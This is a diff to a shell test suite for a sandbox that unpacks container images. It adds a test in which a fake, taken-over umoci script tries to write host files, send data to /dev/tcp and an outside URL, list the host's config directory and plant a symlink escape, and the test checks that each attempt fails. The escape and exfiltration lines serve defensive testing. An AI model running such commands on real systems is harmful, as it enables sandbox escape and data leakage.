@@ -91,7 +91,7 @@ make_image "$layout" hostile "$system" \
     'directory name=usr/opaque user.overlay.opaque=y' 'file name=usr/redirect mode=400 user.overlay.redirect=/etc/hostname user.overlay.metacopy=y' \
     'file name=usr/other user.overlay.whiteout=y user.mine=y' 'directory name=usr/closed mode=0' 'file name=usr/closed-file mode=0 text=x' > /dev/null
 use "oci:$layout:hostile"
-JAR=hostile-$$ in_jar bash -c 'stat -c "%n %a %F" /usr/bin/set-id /usr/set-id /usr/device /usr/closed; cat /usr/redirect; ls /proc/1 /usr/closed > /dev/null' > "$TEST_DIR/out"
+JAR=hostile-$$ in_jar bash -c 'set -e; stat -c "%n %a %F" /usr/bin/set-id /usr/set-id /usr/device /usr/closed; cat /usr/redirect; ls /proc/1 /usr/closed > /dev/null' > "$TEST_DIR/out"
 assert_equal "$(cat "$TEST_DIR/out")" $'/usr/bin/set-id 755 regular file\n/usr/set-id 1777 directory\n/usr/device 666 regular empty file\n/usr/closed 700 directory'
 find "$TEST_DIR/victim" -mindepth 1 > "$TEST_DIR/found"
 assert_equal "$(cat "$TEST_DIR/found")" "" "something got out of the image"
@@ -111,6 +111,30 @@ assert_equal "$(tr -d '\n' < "$TEST_DIR/found")" "" "a layer has attributes"
 make_image "$layout" link-out "$system" 'link name=usr/passwd to=../../../../../../../etc/hostname' > /dev/null
 use "oci:$layout:link-out"
 refused "umoci can't unpack the image"
+
+# A program that a layer has taken over, in the place of umoci: it reaches no file of the host's to write, no network, and what it
+# leaves instead of the image's tree is not followed.
+mkdir "$TEST_DIR/bad"
+cat > "$TEST_DIR/bad/umoci" <<CODE
+#!/bin/bash
+echo x > "$TEST_DIR/victim/direct"
+echo x > "$layout/written"
+for layers in /var/tmp/*/home/.local/state/belljar/roots/unpacking-*/layout "$ROOTS"/unpacking-*/layout; do echo x > "\$layers/written"; done
+for address in 203.0.113.10 127.0.0.1; do timeout 2 bash -c "echo taken-over > /dev/tcp/\$address/80"; done
+timeout 3 curl -sk --max-time 2 https://allowed.test/taken-over
+ls "$TEST_DIR" "$HOME"/.config > /unpack/seen
+ln -s "$TEST_DIR/victim" /unpack/rootfs
+CODE
+chmod 755 "$TEST_DIR/bad/umoci"
+make_image "$layout" bad "$system" 'file name=bad text=x' > /dev/null
+use "oci:$layout:bad"
+: > "$BELLJAR_WORLD_LOGS/wire.jsonl"
+SEARCH="$TEST_DIR/bad:$PATH" refused "umoci made no directory of the image"
+assert_equal "$(find "$TEST_DIR/victim" "$layout" -mindepth 1 \( -name written -o -name direct \))" "" "what unpacks wrote on the host"
+receiver_silent allowed
+receiver_silent wire
+printf '#!/bin/bash\nmkdir /unpack/rootfs; exec sleep 600 > /dev/null 2>&1 &\necho "what went wrong" >&2; exit 3\n' > "$TEST_DIR/bad/umoci"
+SEARCH="$TEST_DIR/bad:$PATH" refused "umoci can't unpack the image: what went wrong"
 
 # An image that can't be a jar's system, a damaged one, one that isn't there: said, and nothing is left.
 make_image "$layout" link "" 'directory name=usr' "symlink name=etc to=$TEST_DIR/victim" > /dev/null
